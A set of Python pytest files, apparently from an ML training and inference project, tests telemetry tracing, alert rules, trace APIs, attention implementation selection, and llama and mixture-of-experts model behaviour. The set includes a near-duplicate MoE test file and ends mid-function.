    assert ts.list_traces(error=True)[0]["has_error"]


# -- collector span pulls -----------------------------------------------

def test_collector_pulls_spans_advances_cursor_and_rewinds_on_restart():
    clk = FakeClock()
    ts = TraceStore(ttl_s=0, max_spans=1000, now_fn=clk)
    coll = Collector(scrape_s=5, now_fn=clk, registry=M.MetricsRegistry(),
                     trace_store=ts)
    holder = {"tr": T.Tracer()}
    holder["tr"].emit("a.one", start=1.0, wall_s=0.1, trace_id="t1")
    holder["tr"].emit("a.two", start=1.1, wall_s=0.1, trace_id="t1")
    coll.add_target("replica-a", fetch=lambda: "ko_up 1\n",
                    spans_fetch=lambda s, n: holder["tr"].export(s, n))
    out = coll.scrape_once()
    assert out["replica-a"]["spans"] == 2
    assert ts.span_count() == 2
    # cursor advanced: a second pass re-pulls nothing
    assert coll.scrape_once()["replica-a"]["spans"] == 0
    # replica restart: fresh ring, seq below the saved cursor -> rewind
    holder["tr"] = T.Tracer()
    holder["tr"].emit("a.fresh", start=2.0, wall_s=0.1, trace_id="t2")
    coll.scrape_once()  # detects seq < cursor, rewinds to 0
    coll.scrape_once()  # re-pulls the fresh ring from the start
    assert ts.get("t2") is not None
    names = {s["name"] for s in ts.get("t1")["spans"]}
    assert names == {"a.one", "a.two"}  # dedupe kept the old trace intact


# -- exemplars: observe -> exposition -> parse -> store -> alerts -------

def test_exemplar_roundtrip_exposition_to_store(monkeypatch):
    clk = FakeClock()
    r = M.MetricsRegistry()
    h = r.histogram("ko_work_infer_itl_seconds", "itl", buckets=(0.1, 1.0))
    h.observe(0.05, trace_id="aaaa1111")
    h.observe(0.5)  # no trace: bucket keeps its old exemplar slot empty
    text = r.to_prometheus()
    assert '# {trace_id="aaaa1111"} 0.05' in text
    exemplars = []
    samples = parse_prometheus_text(text, exemplars=exemplars)
    # the trailing exemplar comment never costs the sample itself
    assert ("ko_work_infer_itl_seconds_bucket", {"le": "0.1"}, 1.0) in samples
    assert exemplars and exemplars[0][2]["trace_id"] == "aaaa1111"
    store = SeriesStore(now_fn=clk)
    store.ingest_exemplars(exemplars, extra_labels={"target": "r1"})
    ex = store.exemplars("ko_work_infer_itl_seconds")
    assert ex[0]["trace_id"] == "aaaa1111"
    assert ex[0]["value"] == pytest.approx(0.05)
    # age filter
    clk.tick(100)
    assert store.exemplars("ko_work_infer_itl_seconds", max_age_s=50) == []


def test_firing_alert_carries_exemplar_link(monkeypatch):
    from kubeoperator_trn.telemetry.rules import RuleEngine

    clk = FakeClock()
    store = SeriesStore(now_fn=clk)
    eng = RuleEngine(store, rules=[
        {"name": "hot", "expr": {"metric": "ko_lat_ms", "op": "max",
                                 "window_s": 60},
         "above": 5.0, "for_s": 0, "route": ["notify"]}],
        now_fn=clk, registry=M.MetricsRegistry())
    store.append("ko_lat_ms", {"target": "a"}, 9.0)
    store.record_exemplar("ko_lat_ms", {"target": "a"}, "feedbeef", 9.0)
    eng.evaluate()
    clk.tick(1)
    store.append("ko_lat_ms", {"target": "a"}, 9.0)
    eng.evaluate()
    [alert] = eng.active()
    assert alert["exemplar"] == {"trace_id": "feedbeef", "value": 9.0}


# -- rule gates (satellites: spec-accept autoscale veto, MoE entropy) ---

def test_low_spec_acceptance_gates_itl_autoscale_route(monkeypatch):
    from kubeoperator_trn.telemetry.rules import RuleEngine, default_rules

    monkeypatch.setenv("KO_OBS_FOR_S", "15")
    clk = FakeClock()
    store = SeriesStore(now_fn=clk)
    eng = RuleEngine(store, rules=default_rules(), now_fn=clk,
                     registry=M.MetricsRegistry())

    def push(itl_ms, accept):
        store.append("ko_work_infer_role_itl_p95_ms",
                     {"role": "decode", "target": "d0"}, itl_ms)
        store.append("ko_work_infer_spec_accept_ewma",
                     {"target": "d0"}, accept)

    # hot ITL while the draft mispredicts: alert fires, autoscale is
    # vetoed — adding replicas would burn capacity on the same draft
    for _ in range(5):
        push(900.0, 0.1)
        eng.evaluate()
        clk.tick(5)
    itl = {a["name"]: a for a in eng.alerts()}["infer-decode-itl-p95-high"]
    assert itl["state"] == "firing"
    assert itl["gated_route"] == "autoscale"
    assert "autoscale" not in itl["route"] and "notify" in itl["route"]
    assert "infer-decode-itl-p95-high" not in {
        a["name"] for a in eng.active(route="autoscale")}
    # the draft-quality incident pages on its own rule
    assert {a["name"] for a in eng.active()} >= {
        "infer-decode-itl-p95-high", "infer-spec-accept-low"}
    # acceptance recovers: same alert, autoscale route restored
    for _ in range(2):
        push(900.0, 0.9)
        eng.evaluate()
        clk.tick(5)
    itl = {a["name"]: a for a in eng.alerts()}["infer-decode-itl-p95-high"]
    assert itl["state"] == "firing" and itl["gated_route"] is None
    assert "autoscale" in itl["route"]
    assert "infer-decode-itl-p95-high" in {
        a["name"] for a in eng.active(route="autoscale")}


def test_entropy_rule_blocked_without_expert_load(monkeypatch):
    from kubeoperator_trn.telemetry.rules import RuleEngine, default_rules

    monkeypatch.setenv("KO_OBS_FOR_S", "15")
    clk = FakeClock()
    store = SeriesStore(now_fn=clk)
    eng = RuleEngine(store, rules=default_rules(), now_fn=clk,
                     registry=M.MetricsRegistry())
    # dense run: the entropy gauge is registered (0.0) but no expert
    # load flows — when_missing=block holds the rule inactive
    for _ in range(5):
        store.append("ko_work_train_moe_router_entropy",
                     {"target": "t0"}, 0.0)
        eng.evaluate()
        clk.tick(5)
    st = {a["name"]: a for a in eng.alerts()}
    assert st["train-moe-router-entropy-low"]["state"] == "inactive"
    # real MoE traffic: gate passes, collapse fires
    for _ in range(5):
        store.append("ko_work_train_moe_router_entropy",
                     {"target": "t0"}, 0.01)
        for i in range(8):
            store.append("ko_work_train_moe_expert_load",
                         {"target": "t0", "expert": str(i)},
                         90.0 if i == 0 else 1.0)
        eng.evaluate()
        clk.tick(5)
    st = {a["name"]: a for a in eng.alerts()}
    assert st["train-moe-router-entropy-low"]["state"] == "firing"
    assert st["train-moe-expert-imbalance"]["state"] == "firing"
    assert st["train-moe-expert-imbalance"]["value"] > 3.0


# -- scheduler sampling: head off, tail keeps slow/error ----------------

def test_scheduler_tail_sampling_keeps_slow_and_drops_rest(
        params, monkeypatch):
    rng = np.random.default_rng(5)
    prompt = rng.integers(0, CFG.vocab_size, size=12).astype(np.int32)

    # sampling off, no slow threshold: a request leaves zero spans
    monkeypatch.setenv("KO_TRACE_SAMPLE", "0")
    monkeypatch.setenv("KO_TRACE_SLOW_MS", "0")
    tr = T.Tracer()
    sched = _mk(params, "mixed", tracer=tr)
    sched.start()
    try:
        sched.submit(prompt, max_new_tokens=4).result(timeout=60.0)
    finally:
        sched.stop()
    assert len(tr.spans) == 0

    # still head-unsampled, but every request beats a 1ms slow bar:
    # the stashed phase spans replay and the root is marked tail-kept
    monkeypatch.setenv("KO_TRACE_SLOW_MS", "1")
    tr = T.Tracer()
    sched = _mk(params, "mixed", tracer=tr)
    sched.start()
    try:
        sched.submit(prompt, max_new_tokens=4).result(timeout=60.0)
    finally:
        sched.stop()
    by_name = {}
    for s in tr.spans:
        by_name.setdefault(s["name"], []).append(s)
    assert {"infer.queue", "infer.prefill_chunk", "infer.decode_window",
            "infer.request"} <= set(by_name)
    [root] = by_name["infer.request"]
    assert root["attrs"]["kept"] == "tail_slow"
    # replayed children kept their lineage to the pre-minted root id
    assert all(s["parent_id"] == root["span_id"]
               for s in by_name["infer.queue"])
    dw = by_name["infer.decode_window"][0]
    assert dw["attrs"]["iters"] > 0 and "itl_p95_ms" in dw["attrs"]


# -- the tentpole pin: cross-process waterfall assembly -----------------

def test_disagg_waterfall_across_three_processes(params, monkeypatch):
    """One request's trace must assemble from three span rings —
    gateway, prefill, decode — into a waterfall whose parent links
    cross the process boundaries (header hop gateway->prefill, handoff
    meta hop prefill->decode) with no orphan spans."""
    import kubeoperator_trn.infer.handoff as H

    monkeypatch.setenv("KO_TRACE_SAMPLE", "1")
    tr_gw, tr_pre, tr_dec = T.Tracer(), T.Tracer(), T.Tracer()
    pre = _mk(params, "prefill", tracer=tr_pre)
    dec = _mk(params, "decode", tracer=tr_dec)

    def wire(meta, k_pages, v_pages):
        meta2, k2, v2 = H.unpack_handoff(H.pack_handoff(meta, k_pages,
                                                        v_pages))
        req = dec.submit_handoff(meta2, k2, v2)
        req.result(timeout=60.0)
        return list(req.tokens), "decode-0"

    pre.set_handoff(wire)
    rng = np.random.default_rng(9)
    prompt = rng.integers(0, CFG.vocab_size, size=13).astype(np.int32)
    pre.start(), dec.start()
    try:
        with tr_gw.span("gw.request", attrs={"model": "tiny"}) as gw_span:
            pre.submit(prompt, max_new_tokens=4).result(timeout=60.0)
    finally:
        pre.stop(), dec.stop()
    trace_id = gw_span["trace_id"]

    # collector pulls all three rings into one store, like the ops loop
    ts = TraceStore(ttl_s=0, max_spans=10000)
    coll = Collector(registry=M.MetricsRegistry(), trace_store=ts)
    for name, tr in (("gw", tr_gw), ("prefill-0", tr_pre),
                     ("decode-0", tr_dec)):
        coll.add_target(name, fetch=lambda: "ko_up 1\n",
                        spans_fetch=tr.export)
    coll.scrape_once()

    wf = ts.get(trace_id)
    assert wf is not None
    assert wf["orphans"] == 0
    assert wf["lanes"] == ["decode-0", "gw", "prefill-0"]
    names = {s["name"] for s in wf["spans"]}
    assert {"gw.request", "infer.queue", "infer.prefill_chunk",
            "handoff.ship", "handoff.import", "infer.decode_window",
            "infer.request"} <= names

    def one(name, lane):
        [s] = [s for s in wf["spans"]
               if s["name"] == name and s["replica"] == lane]
        return s

    gw = one("gw.request", "gw")
    pre_root = one("infer.request", "prefill-0")
    dec_root = one("infer.request", "decode-0")
    # header hop: the prefill request is a child of the gateway span
    assert pre_root["parent_id"] == gw["span_id"]
    assert pre_root["attrs"]["handoff"] is True
    assert pre_root["attrs"]["kept"] == "head"
    # meta hop: the decode request is a child of the prefill request
    assert dec_root["parent_id"] == pre_root["span_id"]
    # phase spans hang off their own process's root (13 tokens at
    # chunk 8 = two prefill chunks, both linked)
    chunks = [s for s in wf["spans"] if s["name"] == "infer.prefill_chunk"]
    assert len(chunks) == 2
    assert all(c["parent_id"] == pre_root["span_id"] for c in chunks)
    assert one("handoff.ship", "prefill-0")["parent_id"] == \
        pre_root["span_id"]
    assert one("handoff.import", "decode-0")["parent_id"] == \
        dec_root["span_id"]
    assert one("infer.decode_window", "decode-0")["parent_id"] == \
        dec_root["span_id"]
    # gap attribution: prefill compute and decode both land nonzero
    assert wf["gaps"]["prefill_compute_ms"] > 0
    assert wf["gaps"]["decode_ms"] > 0
    assert wf["gaps"]["total_ms"] >= wf["gaps"]["decode_ms"]
    # the listing surfaces the same trace with all three replicas
    [item] = [i for i in ts.list_traces() if i["trace_id"] == trace_id]
    assert item["replicas"] == ["decode-0", "gw", "prefill-0"]
    # ITL histogram on the decode pool carries this trace as exemplar
    assert any(tid == trace_id
               for _, tid, _ in dec.m["itl"].exemplars())


# -- trace API handlers -------------------------------------------------

def test_api_trace_endpoints_waterfall_listing_and_errors():
    from kubeoperator_trn.cluster.api import Api, ApiError
    from kubeoperator_trn.cluster.db import DB

    api = Api(DB(":memory:"), service=None, require_auth=False)
    with pytest.raises(ApiError) as ei:
        api.obs_trace({}, "t")
    assert ei.value.status == 503  # trace store unwired

    ts = TraceStore(ttl_s=0, max_spans=100)
    ts.ingest([_span("t1", "r1", "infer.request", 5.0, 1.5),
               _span("t1", "q1", "infer.queue", 5.0, 0.2, parent="r1")],
              replica="replica-a")
    api.trace_store = ts
    status, wf = api.obs_trace({}, "t1")
    assert status == 200 and wf["trace_id"] == "t1"
    assert len(wf["spans"]) == 2 and wf["orphans"] == 0
    with pytest.raises(ApiError) as ei:
        api.obs_trace({}, "missing")
    assert ei.value.status == 404

    status, out = api.obs_traces({"slow_ms": "1000"})
    assert status == 200 and [i["trace_id"] for i in out["items"]] == ["t1"]
    status, out = api.obs_traces({"slow_ms": "5000"})
    assert out["items"] == []
    with pytest.raises(ApiError) as ei:
        api.obs_traces({"slow_ms": "fast"})
    assert ei.value.status == 400

    # /obs/query surfaces exemplars next to the rollup
    coll = Collector(registry=M.MetricsRegistry())
    coll.store.append("ko_lat_ms", {"target": "a"}, 2.0)
    coll.store.record_exemplar("ko_lat_ms", {"target": "a"}, "t1", 2.0)
    api.collector = coll
    status, q = api.obs_query({"metric": "ko_lat_ms"})
    assert status == 200 and q["value"] == 2.0
    assert q["exemplars"][0]["trace_id"] == "t1"
