"""Attention-impl resolution + the tools/attn_probe.py microbench."""

import json
import os
import subprocess
import sys

import pytest

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def test_resolve_attn_impl_precedence(monkeypatch):
    from kubeoperator_trn.ops.attention import resolve_attn_impl

    monkeypatch.delenv("KO_ATTN_IMPL", raising=False)
    assert resolve_attn_impl(None) == "blockwise"  # default
    monkeypatch.setenv("KO_ATTN_IMPL", "nki")
    assert resolve_attn_impl(None) == "nki"  # env
    assert resolve_attn_impl("dense") == "dense"  # explicit beats env
    with pytest.raises(ValueError):
        resolve_attn_impl("flash9000")


def test_get_attention_fn_rejects_unknown():
    from kubeoperator_trn.ops.attention import get_attention_fn

    with pytest.raises(ValueError):
        get_attention_fn("triton")


@pytest.mark.slow
def test_attn_probe_tool_runs():
    env = dict(os.environ, JAX_PLATFORMS="cpu")
    out = subprocess.run(
        [sys.executable, os.path.join(REPO, "tools", "attn_probe.py"),
         "--batch", "2", "--seq", "160", "--heads", "4",
         "--kv-heads", "2", "--head-dim", "16", "--block", "64"],
        capture_output=True, text=True, timeout=240, env=env, check=True,
    )
    result = json.loads(out.stdout.strip())
    assert result["metric"] == "attn_dense_vs_tiled"
    impls = [v["impl"] for v in result["variants"]]
    assert impls == ["dense", "blockwise", "nki"]
    for v in result["variants"]:
        # all three impls agree on the loss (parity at probe shape)
        assert v["loss_rel_err"] < 1e-4, v
    dense, blockwise, nki = result["variants"]
    # tiled paths beat dense on score-shaped residual bytes at bench shape
    assert blockwise["bench_score_bytes"]["residual"] < \
        dense["bench_score_bytes"]["residual"]
    assert nki["bench_score_bytes"]["residual"] == 0
    assert nki["maxseq_score_bytes"]["live"] < \
        dense["maxseq_score_bytes"]["live"]
