import jax
import jax.numpy as jnp
import numpy as np

from kubeoperator_trn.models import llama


def tiny_cfg(**kw):
    base = llama.PRESETS["llama3_tiny"]
    from dataclasses import replace
    return replace(base, compute_dtype="float32", **kw)


def test_param_count_matches_formula():
    cfg = tiny_cfg()
    params = llama.init_params(cfg, jax.random.key(0))
    from kubeoperator_trn.utils import param_count
    assert param_count(params) == cfg.n_params()


def test_forward_shapes_and_finite():
    cfg = tiny_cfg()
    params = llama.init_params(cfg, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (2, 16), 0, cfg.vocab_size)
    logits = llama.forward(cfg, params, toks)
    assert logits.shape == (2, 16, cfg.vocab_size)
    assert bool(jnp.all(jnp.isfinite(logits)))


def test_causality():
    """Changing future tokens must not change past logits."""
    cfg = tiny_cfg()
    params = llama.init_params(cfg, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (1, 16), 0, cfg.vocab_size)
    toks2 = toks.at[:, 10:].set((toks[:, 10:] + 7) % cfg.vocab_size)
    l1 = llama.forward(cfg, params, toks)
    l2 = llama.forward(cfg, params, toks2)
    np.testing.assert_allclose(
        np.asarray(l1[:, :10]), np.asarray(l2[:, :10]), rtol=1e-4, atol=1e-4
    )
    assert not np.allclose(np.asarray(l1[:, 10:]), np.asarray(l2[:, 10:]), atol=1e-4)


def test_loss_decreases_under_training():
    from kubeoperator_trn.train.optim import AdamWConfig, adamw_init, adamw_update
    from kubeoperator_trn.train.data import synthetic_stream

    cfg = tiny_cfg()
    params = llama.init_params(cfg, jax.random.key(0))
    opt_cfg = AdamWConfig(lr=1e-2, warmup_steps=5, total_steps=60)
    opt = adamw_init(params)
    stream = synthetic_stream(cfg.vocab_size, 8, 32, seed=0)

    @jax.jit
    def step(params, opt, batch):
        loss, grads = jax.value_and_grad(
            lambda p: llama.loss_fn(cfg, p, batch)
        )(params)
        params, opt, _ = adamw_update(opt_cfg, grads, opt, params)
        return params, opt, loss

    losses = []
    for _ in range(30):
        batch = next(stream)
        params, opt, loss = step(params, opt, {k: jnp.asarray(v) for k, v in batch.items()})
        losses.append(float(loss))
    assert losses[-1] < losses[0] - 0.5, losses


def test_tied_embeddings_forward():
    cfg = tiny_cfg(tie_embeddings=True)
    params = llama.init_params(cfg, jax.random.key(0))
    assert "lm_head" not in params
    toks = jnp.zeros((1, 4), jnp.int32)
    logits = llama.forward(cfg, params, toks)
    assert logits.shape == (1, 4, cfg.vocab_size)


def test_weight_decay_skips_norm_scales():
    """Norm scales ([L,d] stacked => ndim 2) must not be decayed."""
    from kubeoperator_trn.train.optim import (
        AdamWConfig, adamw_init, adamw_update,
    )
    cfg = tiny_cfg()
    params = llama.init_params(cfg, jax.random.key(0))
    grads = jax.tree_util.tree_map(jnp.zeros_like, params)
    opt = adamw_init(params)
    opt_cfg = AdamWConfig(lr=1e-2, weight_decay=0.5, warmup_steps=0, total_steps=10)
    new_params, _, _ = adamw_update(opt_cfg, grads, opt, params)
    # Zero grads: norm scales unchanged, matrices shrunk by decay.
    np.testing.assert_array_equal(
        np.asarray(new_params["layers"]["ln_attn"]),
        np.asarray(params["layers"]["ln_attn"]),
    )
    assert np.all(
        np.abs(np.asarray(new_params["layers"]["wq"]))
        < np.abs(np.asarray(params["layers"]["wq"])) + 1e-12
    )
    assert not np.allclose(
        np.asarray(new_params["layers"]["wq"]), np.asarray(params["layers"]["wq"])
    )
