"""MoE model family: routing, capacity, EP sharding parity, training."""

from dataclasses import replace

import jax
import jax.numpy as jnp
import numpy as np

from kubeoperator_trn.models import moe


CFG = replace(moe.MOE_PRESETS["moe_tiny"], compute_dtype="float32")


def test_forward_shapes_and_finite():
    params = moe.init_params(CFG, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (2, 16), 0, CFG.vocab_size)
    logits, aux = moe.forward(CFG, params, toks)
    assert logits.shape == (2, 16, CFG.vocab_size)
    assert bool(jnp.all(jnp.isfinite(logits)))
    assert float(aux) > 0.0  # load-balance loss is positive


def test_moe_block_routes_topk_with_capacity():
    params = moe.init_params(CFG, jax.random.key(0))
    lp = jax.tree_util.tree_map(lambda x: x[0], params["layers"])
    x = jax.random.normal(jax.random.key(2), (2, 8, CFG.dim))
    y, aux = moe.moe_block(CFG, x, lp)
    assert y.shape == x.shape
    assert bool(jnp.all(jnp.isfinite(y)))
    # With huge capacity nothing is dropped: output invariant to
    # capacity_factor increase.
    big = replace(CFG, capacity_factor=100.0)
    y2, _ = moe.moe_block(big, x, lp)
    y3, _ = moe.moe_block(replace(CFG, capacity_factor=200.0), x, lp)
    np.testing.assert_allclose(np.asarray(y2), np.asarray(y3), rtol=1e-5)


def test_loss_decreases_under_training():
    from kubeoperator_trn.train.optim import AdamWConfig, adamw_init, adamw_update
    from kubeoperator_trn.train.data import synthetic_stream

    params = moe.init_params(CFG, jax.random.key(0))
    opt_cfg = AdamWConfig(lr=1e-2, warmup_steps=5, total_steps=60)
    opt = adamw_init(params)
    stream = synthetic_stream(CFG.vocab_size, 8, 32, seed=0)

    @jax.jit
    def step(params, opt, batch):
        loss, grads = jax.value_and_grad(
            lambda p: moe.loss_fn(CFG, p, batch)
        )(params)
        params, opt, _ = adamw_update(opt_cfg, grads, opt, params)
        return params, opt, loss

    losses = []
    for _ in range(25):
        batch = next(stream)
        params, opt, loss = step(params, opt,
                                 {k: jnp.asarray(v) for k, v in batch.items()})
        losses.append(float(loss))
    assert losses[-1] < losses[0] - 0.3, losses


def test_ep_sharded_loss_matches_single_device():
    from kubeoperator_trn.parallel.mesh import MeshPlan, build_mesh
    from kubeoperator_trn.parallel.sharding import shardings_for, batch_spec

    cfg = replace(CFG, n_heads=8, n_kv_heads=4)
    params = moe.init_params(cfg, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (8, 33), 0, cfg.vocab_size)
    batch = {"inputs": toks[:, :-1], "targets": toks[:, 1:]}
    want = float(moe.loss_fn(cfg, params, batch))

    # tp axis shards the expert dimension (EP) + attention heads.
    mesh = build_mesh(MeshPlan(dp=2, fsdp=2, tp=2))
    sp = jax.device_put(params, shardings_for(mesh, moe.param_specs(params)))
    sb = jax.device_put(batch, jax.NamedSharding(mesh, batch_spec()))
    got = float(jax.jit(lambda p, b: moe.loss_fn(cfg, p, b))(sp, sb))
    np.testing.assert_allclose(got, want, rtol=2e-4)
