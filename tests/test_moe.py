"""MoE model family: routing, capacity, EP sharding parity, training."""

from dataclasses import replace

import jax
import jax.numpy as jnp
import numpy as np

from kubeoperator_trn.models import moe


CFG = replace(moe.MOE_PRESETS["moe_tiny"], compute_dtype="float32")


def test_forward_shapes_and_finite():
    params = moe.init_params(CFG, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (2, 16), 0, CFG.vocab_size)
    logits, aux = moe.forward(CFG, params, toks)
    assert logits.shape == (2, 16, CFG.vocab_size)
    assert bool(jnp.all(jnp.isfinite(logits)))
    assert float(aux) > 0.0  # load-balance loss is positive


def test_moe_block_routes_topk_with_capacity():
    params = moe.init_params(CFG, jax.random.key(0))
    lp = jax.tree_util.tree_map(lambda x: x[0], params["layers"])
    x = jax.random.normal(jax.random.key(2), (2, 8, CFG.dim))
    y, aux = moe.moe_block(CFG, x, lp)
    assert y.shape == x.shape
    assert bool(jnp.all(jnp.isfinite(y)))
    # With huge capacity nothing is dropped: output invariant to
    # capacity_factor increase.
    big = replace(CFG, capacity_factor=100.0)
    y2, _ = moe.moe_block(big, x, lp)
    y3, _ = moe.moe_block(replace(CFG, capacity_factor=200.0), x, lp)
    np.testing.assert_allclose(np.asarray(y2), np.asarray(y3), rtol=1e-5)


def test_loss_decreases_under_training():
    from kubeoperator_trn.train.optim import AdamWConfig, adamw_init, adamw_update
    from kubeoperator_trn.train.data import synthetic_stream

    params = moe.init_params(CFG, jax.random.key(0))
    opt_cfg = AdamWConfig(lr=1e-2, warmup_steps=5, total_steps=60)
    opt = adamw_init(params)
    stream = synthetic_stream(CFG.vocab_size, 8, 32, seed=0)

    @jax.jit
    def step(params, opt, batch):
        loss, grads = jax.value_and_grad(
            lambda p: moe.loss_fn(CFG, p, batch)
        )(params)
        params, opt, _ = adamw_update(opt_cfg, grads, opt, params)
        return params, opt, loss

    losses = []
    for _ in range(25):
        batch = next(stream)
        params, opt, loss = step(params, opt,
                                 {k: jnp.asarray(v) for k, v in batch.items()})
        losses.append(float(loss))
    assert losses[-1] < losses[0] - 0.3, losses


def test_ep_sharded_loss_matches_single_device():
    from kubeoperator_trn.parallel.mesh import MeshPlan, build_mesh
    from kubeoperator_trn.parallel.sharding import shardings_for, batch_spec

    cfg = replace(CFG, n_heads=8, n_kv_heads=4)
    params = moe.init_params(cfg, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (8, 33), 0, cfg.vocab_size)
    batch = {"inputs": toks[:, :-1], "targets": toks[:, 1:]}
    want = float(moe.loss_fn(cfg, params, batch))

    # expert dim over the real ep axis (param_specs), auto partitioner.
    # Tolerance is looser than the dense tests: sharded reduction order
    # perturbs router logits, and a top-k tie flip reroutes a token.
    mesh = build_mesh(MeshPlan(dp=1, fsdp=2, ep=4))
    sp = jax.device_put(params, shardings_for(mesh, moe.param_specs(params)))
    sb = jax.device_put(batch, jax.NamedSharding(mesh, batch_spec()))
    got = float(jax.jit(lambda p, b: moe.loss_fn(cfg, p, b))(sp, sb))
    np.testing.assert_allclose(got, want, rtol=5e-3)


def test_moe_train_step_ep_plan():
    """MoE routed through make_train_step on an EP×FSDP mesh (experts
    over ep via make_ep_moe_block's shard_map): jitted steps execute,
    loss finite and moving, routing stats land in the metrics."""
    import jax
    import jax.numpy as jnp
    from dataclasses import replace

    from kubeoperator_trn.models.moe import MOE_PRESETS
    from kubeoperator_trn.parallel.mesh import MeshPlan, build_mesh
    from kubeoperator_trn.parallel.sharding import batch_spec
    from kubeoperator_trn.train.optim import AdamWConfig
    from kubeoperator_trn.train.train_step import TrainStepConfig, make_train_step

    plan = MeshPlan(dp=1, fsdp=2, ep=4)
    mesh = build_mesh(plan)
    cfg = replace(MOE_PRESETS["moe_tiny"], compute_dtype="float32")
    tcfg = TrainStepConfig(model=cfg, optim=AdamWConfig(), plan=plan)
    step, init_host, init_sharded, make_jitted, mesh = make_train_step(tcfg, mesh=mesh)
    state = init_sharded(jax.random.key(0))
    jitted = make_jitted(state)
    toks = jax.random.randint(jax.random.key(1), (16, 33), 0, cfg.vocab_size)
    batch = {"inputs": toks[:, :-1].astype(jnp.int32),
             "targets": toks[:, 1:].astype(jnp.int32)}
    batch = jax.device_put(batch, jax.NamedSharding(mesh, batch_spec()))
    losses = []
    for _ in range(3):
        state, metrics = jitted(state, batch)
        losses.append(float(metrics["loss"]))
    assert all(jnp.isfinite(l) for l in losses), losses
    assert losses[-1] < losses[0], losses  # optimizer actually moves
    load = np.asarray(metrics["moe_expert_load"])
    assert load.shape == (cfg.n_experts,)
    np.testing.assert_allclose(load.sum(), 1.0, rtol=1e-5)
    assert float(metrics["moe_dropped_tokens"]) >= 0.0
    assert float(metrics["moe_router_entropy"]) > 0.0


def test_grouped_matches_einsum_loss_and_grads():
    """Tentpole parity: the sort-based grouped dispatch reproduces the
    einsum path's loss and grads in fp32 (stable argsort == cumsum
    position order, so routing/drops are identical)."""
    from jax.flatten_util import ravel_pytree

    params = moe.init_params(CFG, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (4, 33), 0, CFG.vocab_size)
    batch = {"inputs": toks[:, :-1], "targets": toks[:, 1:]}

    out = {}
    for impl in moe.DISPATCH_IMPLS:
        fn = jax.jit(jax.value_and_grad(
            lambda p, b, impl=impl: moe.loss_fn(
                CFG, p, b,
                moe_block_fn=lambda c, x, lp: moe.moe_block_stats(
                    c, x, lp, dispatch=impl))))
        out[impl] = fn(params, batch)
    lg, gg = out["grouped"]
    le, ge = out["einsum"]
    assert abs(float(lg) - float(le)) <= 1e-6, (float(lg), float(le))
    diff = float(jnp.max(jnp.abs(ravel_pytree(gg)[0] - ravel_pytree(ge)[0])))
    assert diff <= 1e-5, diff


def test_grouped_matches_einsum_bf16():
    """Same parity in bf16 compute: both paths run identical einsum
    chains on identical bf16 operands; the combine sums the same k terms
    in f32, so only reduction-order noise separates them."""
    cfg = replace(CFG, compute_dtype="bfloat16")
    params = moe.init_params(cfg, jax.random.key(0))
    toks = jax.random.randint(jax.random.key(1), (4, 33), 0, cfg.vocab_size)
    batch = {"inputs": toks[:, :-1], "targets": toks[:, 1:]}
    losses = {
        impl: float(jax.jit(
            lambda p, b, impl=impl: moe.loss_fn(
                cfg, p, b,
                moe_block_fn=lambda c, x, lp: moe.moe_block_stats(
                    c, x, lp, dispatch=impl)))(params, batch))
        for impl in moe.DISPATCH_IMPLS
    }
    np.testing.assert_allclose(losses["grouped"], losses["einsum"],
                               rtol=2e-2)


def test_grouped_einsum_parity_ragged_shape():
    """Block-level parity at a ragged token count (T = 3*19, not a
    multiple of anything convenient): outputs, aux, and counts agree."""
    params = moe.init_params(CFG, jax.random.key(0))
    lp = jax.tree_util.tree_map(lambda x: x[0], params["layers"])
    x = jax.random.normal(jax.random.key(7), (3, 19, CFG.dim), jnp.float32)
    yg, ag, sg = moe.moe_block_stats(CFG, x, lp, dispatch="grouped")
    ye, ae, se = moe.moe_block_stats(CFG, x, lp, dispatch="einsum")
    np.testing.assert_allclose(np.asarray(yg), np.asarray(ye), atol=1e-5)
    np.testing.assert_allclose(float(ag), float(ae), rtol=1e-6)
    np.testing.assert_array_equal(np.asarray(sg["moe_expert_load"]),
                                  np.asarray(se["moe_expert_load"]))


def test_capacity_overflow_drops_identical():
    """At a deliberately tight capacity (cf=0.3) both dispatch paths
    drop the SAME token slots — count equal and nonzero — and the
    surviving combine still matches."""
    tight = replace(CFG, capacity_factor=0.3)
    params = moe.init_params(tight, jax.random.key(0))
    lp = jax.tree_util.tree_map(lambda x: x[0], params["layers"])
    x = jax.random.normal(jax.random.key(3), (4, 32, tight.dim), jnp.float32)
    yg, _, sg = moe.moe_block_stats(tight, x, lp, dispatch="grouped")
    ye, _, se = moe.moe_block_stats(tight, x, lp, dispatch="einsum")
    dg = float(sg["moe_dropped_tokens"])
    de = float(se["moe_dropped_tokens"])
    assert dg == de and dg > 0, (dg, de)
    np.testing.assert_allclose(np.asarray(yg), np.asarray(ye), atol=1e-5)


def test_resolve_moe_dispatch_precedence(monkeypatch):
    import pytest

    monkeypatch.delenv("KO_MOE_DISPATCH", raising=False)
    assert moe.resolve_moe_dispatch() == "grouped"
    monkeypatch.setenv("KO_MOE_DISPATCH", "einsum")
    assert moe.resolve_moe_dispatch() == "einsum"
    assert moe.resolve_moe_dispatch("grouped") == "grouped"  # arg wins
    monkeypatch.setenv("KO_MOE_DISPATCH", "bogus")
    with pytest.raises(ValueError, match="bogus"):
        moe.resolve_moe_dispatch()


def test_moe_train_step_host_init_matches_structure():
    import jax
    from dataclasses import replace

    from kubeoperator_trn.models.moe import MOE_PRESETS
    from kubeoperator_trn.parallel.mesh import MeshPlan, build_mesh
    from kubeoperator_trn.train.optim import AdamWConfig
    from kubeoperator_trn.train.train_step import TrainStepConfig, make_train_step

    plan = MeshPlan(dp=2, tp=2)
    mesh = build_mesh(plan, devices=jax.devices()[:4])
    cfg = replace(MOE_PRESETS["moe_tiny"], compute_dtype="float32")
    tcfg = TrainStepConfig(model=cfg, optim=AdamWConfig(), plan=plan)
    step, init_host, init_sharded, make_jitted, mesh = make_train_step(tcfg, mesh=mesh)
    s1 = init_host(0)
    s2 = init_sharded(jax.random.key(0))
    t1 = jax.tree_util.tree_structure(s1)
    t2 = jax.tree_util.tree_structure(s2)
    assert t1 == t2


def test_moe_active_flops_accounting():
